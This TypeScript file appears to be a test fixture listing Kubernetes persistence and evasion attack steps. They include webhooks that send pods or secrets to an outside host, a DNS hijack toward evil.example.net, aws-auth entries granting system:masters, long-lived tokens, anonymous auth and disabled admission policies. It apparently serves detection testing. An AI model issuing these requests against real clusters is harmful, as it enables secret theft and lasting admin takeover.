import { attack } from '../ask.ts';
import { admission, apiService, configMap, goodSpec, named, pod, tokenRequest, webhookConfiguration } from '../objects.ts';
import { certificates, core, custom } from '../places.ts';
import type { AttackStep } from '../step.ts';
import { adminConf, airflow, airflowScript, basket, nadia, pavel, runner } from './attackers.ts';

const hooks = (kind: 'mutating' | 'validating'): string => `${admission}/${kind}webhookconfigurations`;
const everyPod = { apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] };
const hook = (url: string, more: object = {}): object => ({
  name: 'inject.example.net',
  clientConfig: { url },
  failurePolicy: 'Ignore',
  rules: [everyPod],
  timeoutSeconds: 1,
  ...more,
});
const system = core('kube-system');
const kinds = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';

/** What lets him come back. */
export const footholdSteps: readonly AttackStep[] = [
  ...attack(
    'persistence',
    [
      'PS02',
      nadia.post(
        'a webhook that sees secrets',
        hooks('validating'),
        webhookConfiguration(
          'Validating',
          'see',
          hook('https://198.51.100.20/s', { rules: [{ ...everyPod, resources: ['secrets'] }] }),
        ),
      ),
    ],
    [
      'PS02',
      airflow.post(
        'a webhook that changes pods',
        hooks('mutating'),
        webhookConfiguration(
          'Mutating',
          'side',
          hook('https://198.51.100.20/m', { rules: [{ ...everyPod, apiGroups: ['nothing.example.com'] }] }),
        ),
      ),
    ],
    [
      'PS02 N19',
      nadia.json('a policy of admission lets all in when it fails', `${hooks('validating')}/kyverno-resource-validating`, [
        { op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' },
      ]),
    ],
    [
      'PS02 N19',
      nadia.json('a policy of admission leaves a namespace out', `${hooks('validating')}/kyverno-resource-validating`, [
        {
          op: 'add',
          path: '/webhooks/0/namespaceSelector',
          value: { matchExpressions: [{ key: 'x', operator: 'NotIn', values: ['y'] }] },
        },
      ]),
    ],
    ['PS02', nadia.remove('a policy of admission goes', `${hooks('validating')}/kyverno-resource-validating`)],
    ['PS02', runner.remove('refused: a webhook', `${hooks('mutating')}/pod-identity`)],
    [
      'PS07',
      nadia.post(
        'a token of an account of the system',
        `${system}/serviceaccounts/clusterrole-aggregation-controller/token`,
        tokenRequest(31_536_000),
      ),
    ],
    [
      'PS07',
      airflowScript.post(
        'a token of another account',
        `${core('argocd')}/serviceaccounts/argocd-application-controller/token`,
        tokenRequest(86_400),
      ),
    ],
    ['PS07', nadia.post('kubectl create token', `${core('gitlab')}/serviceaccounts/deployer/token`, tokenRequest(3600))],
    ['PS07', basket.post('refused: a token', `${core('orders')}/serviceaccounts/default/token`, tokenRequest(3600))],
    [
      'PS08',
      nadia.post('a token that never ends', `${system}/secrets`, {
        ...named('Secret', 'sa-forever', { annotations: { 'kubernetes.io/service-account.name': 'descheduler' } }),
        type: 'kubernetes.io/service-account-token',
      }),
    ],
    [
      'PS08',
      airflow.post('a token that never ends, elsewhere', `${core('orders')}/secrets`, {
        ...named('Secret', 'default-token-x1', { annotations: { 'kubernetes.io/service-account.name': 'default' } }),
        type: 'kubernetes.io/service-account-token',
      }),
    ],
    ['PS09', nadia.post('an account in the system', `${system}/serviceaccounts`, named('ServiceAccount', 'cloud-sync'))],
    [
      'PS09',
      airflow.post('an account where all may read', `${core('kube-public')}/serviceaccounts`, named('ServiceAccount', 'reader')),
    ],
    ['PS10', nadia.post('an account', `${core('orders')}/serviceaccounts`, named('ServiceAccount', 'metrics'))],
    [
      'PE22',
      nadia.post(
        'a pod with the account of a controller',
        `${system}/pods`,
        pod('agg', goodSpec({ serviceAccountName: 'clusterrole-aggregation-controller' })),
      ),
    ],
    [
      'PE22',
      airflow.post(
        'a pod with a strong account',
        `${core('argocd')}/pods`,
        pod('cli', goodSpec({ serviceAccountName: 'argocd-application-controller' })),
      ),
    ],
    [
      'PE25 CA11',
      nadia.post('a secret in the system', `${system}/secrets`, {
        ...named('Secret', 'cloud-credentials'),
        stringData: { a: 'b' },
      }),
    ],
    [
      'PE25',
      nadia.post('a token by which machines join', `${system}/secrets`, {
        ...named('Secret', 'bootstrap-token-abcdef'),
        type: 'bootstrap.kubernetes.io/token',
        stringData: { 'token-id': 'abcdef', 'token-secret': '0123456789abcdef', 'usage-bootstrap-authentication': 'true' },
      }),
    ],
    [
      'IA14',
      nadia.merge('who may log in from the cloud', `${system}/configmaps/aws-auth`, {
        data: { mapUsers: '- userarn: arn:aws:iam::111122223333:user/x\n  username: x\n  groups: [system:masters]' },
      }),
    ],
    [
      'IA14',
      nadia.put(
        'the same by a whole object',
        `${system}/configmaps/aws-auth`,
        configMap('aws-auth', { mapRoles: '- rolearn: arn:aws:iam::111122223333:role/x\n  groups: ["system:masters"]' }),
      ),
    ],
    ['IA14', nadia.remove('nobody from the cloud', `${system}/configmaps/aws-auth`)],
    ['IA15', nadia.post('a node that is none', '/api/v1/nodes', named('Node', 'ghost-1'))],
    ['IA15 EX16', pavel.post('a node, refused', '/api/v1/nodes', named('Node', 'ghost-2'))],
    [
      'LM01',
      nadia.merge('names of the cluster lead elsewhere', `${system}/configmaps/coredns`, {
        data: { Corefile: '.:53 {\n rewrite name cart.orders.svc.cluster.local evil.example.net\n forward . 198.51.100.53\n}' },
      }),
    ],
    [
      'LM01',
      airflow.post(
        'more names',
        `${system}/configmaps`,
        configMap('coredns-custom', { 'x.server': 'example.com:53 { forward . 198.51.100.53 }' }),
      ),
    ],
    ['N21', nadia.remove('a policy goes', `${admission}/validatingadmissionpolicies/registries`)],
    [
      'N21',
      nadia.json('a policy only warns', `${admission}/validatingadmissionpolicybindings/registries`, [
        { op: 'replace', path: '/spec/validationActions', value: ['Warn'] },
      ]),
    ],
    ['N21', nadia.remove('a policy is bound to nothing', `${admission}/validatingadmissionpolicybindings/registries`)],
    [
      'N21',
      nadia.merge('a policy of Kyverno only audits', `${custom('kyverno.io', 'v1', 'orders')}/policies/no-privileged`, {
        spec: { validationFailureAction: 'Audit' },
      }),
    ],
    ['N21', nadia.remove('a policy of Kyverno goes', `${custom('kyverno.io', 'v1', 'orders')}/policies/no-privileged`)],
    [
      'N20',
      nadia.merge('any pod is let in', '/api/v1/namespaces/tenant-blue', {
        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
      }),
    ],
    [
      'N20',
      nadia.json('no standard for pods', '/api/v1/namespaces/tenant-blue', [
        { op: 'remove', path: '/metadata/labels/pod-security.kubernetes.io~1enforce' },
      ]),
    ],
    [
      'N22',
      nadia.post(
        'a group of the API answered from outside',
        '/apis/apiregistration.k8s.io/v1/apiservices',
        apiService('stats.example.net', 'v1', { service: { name: 'cart', namespace: 'orders' }, insecureSkipTLSVerify: true }),
      ),
    ],
    [
      'N22',
      nadia.merge('metrics answered by another', '/apis/apiregistration.k8s.io/v1/apiservices/v1.stats.example.net', {
        spec: { service: { name: 'gateway', namespace: 'orders' } },
      }),
    ],
    [
      'N22',
      nadia.merge('objects go through a webhook', `${kinds}/certificates.cert-manager.io`, {
        spec: {
          conversion: {
            strategy: 'Webhook',
            webhook: { conversionReviewVersions: ['v1'], clientConfig: { url: 'https://198.51.100.20/c' } },
          },
        },
      }),
    ],
    ['N22 IM04', nadia.remove('a kind and all its objects', `${kinds}/sparkapplications.sparkoperator.example.com`)],
    [
      'DE04',
      nadia.merge('settings of the kubelets', `${system}/configmaps/kubelet-config`, {
        data: { kubelet: 'authentication:\n  anonymous:\n    enabled: true' },
      }),
    ],
    [
      'DE04',
      nadia.merge('settings of the control plane', `${system}/configmaps/kubeadm-config`, {
        data: { ClusterConfiguration: 'apiServer: {extraArgs: {anonymous-auth: "true"}}' },
      }),
    ],
    [
      'DE04 PS03',
      nadia.merge('whom the servers of the API trust', `${system}/configmaps/extension-apiserver-authentication`, {
        data: { 'requestheader-allowed-names': '["front-proxy-client","evil"]' },
      }),
    ],
    [
      'N15',
      adminConf.post('a binding by the masters', '/apis/rbac.authorization.k8s.io/v1/namespaces/legacy/rolebindings', {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'RoleBinding',
        metadata: { name: 'x' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
        subjects: [],
      }),
    ],
    ['PS03', runner.remove('a request of certificates, refused', `${certificates}/m-1`)],
  ),
];
